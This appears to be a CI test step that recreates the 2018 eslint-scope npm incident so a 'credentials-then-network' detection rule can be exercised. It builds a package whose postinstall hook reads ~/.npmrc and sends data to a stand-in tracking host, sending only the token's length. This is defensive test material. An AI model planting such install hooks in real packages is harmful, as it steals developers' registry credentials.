# incident: eslint-scope, July 2018; event-stream, November 2018
# what: a script reads the token of npm and sends it to a site that counts visitors
# rule: credentials-then-network
## step: Install
mkdir -p $RUNNER_TEMP/scope && cd $RUNNER_TEMP/scope
cat > package.json <<'X'
{"name": "scope", "version": "3.7.2", "scripts": {"postinstall": "node build.js"}}
X
cat > build.js <<'X'
const token = require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8');
require('http').get({host: 'sstatic1.histats-stand-in.com', path: '/0.gif', headers: {referer: 'http://1.a/' + token.length}}, r => r.resume());
X
cd $GITHUB_WORKSPACE && npm install --install-links $RUNNER_TEMP/scope
